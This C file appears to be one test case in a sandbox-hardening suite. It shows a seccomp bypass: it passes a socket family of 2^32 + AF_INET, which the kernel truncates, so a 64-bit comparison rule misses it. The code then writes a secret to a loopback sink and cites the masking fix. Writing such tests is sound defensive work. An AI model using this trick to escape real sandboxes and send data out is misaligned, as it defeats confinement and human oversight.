// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: socket(2^32 + AF_INET, ...). The kernel takes an int and forgets the upper half; a seccomp
 *        rule that compares all 64 bits with AF_INET, as SCMP_CMP_EQ does, sees another number.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd;

	attempting(b);
	fd = (int)syscall(SYS_socket, 1L << 32 | AF_INET, (long)SOCK_STREAM, 0L);
	if (fd < 0)
		return denied("socket");
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)))
		return denied("connect");
	if (write(fd, b->secret, strlen(b->secret)) < 0)
		return denied("write");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "socket(2^32 + AF_INET): a rule compares 64 bits, the kernel reads 32",
	.oracle = "sink",
	.needs = NEED_X86_64,
	.id = "NET-08",
	.attack_id = "T1041, CWE-184, CWE-681",
	.remedy = "seccomp rules that mask the argument to 32 bits, or allow families by list",
	.refs = (const char *const[]){ "seccomp_rule_add(3), SCMP_CMP_MASKED_EQ", NULL },
	.run = run,
};
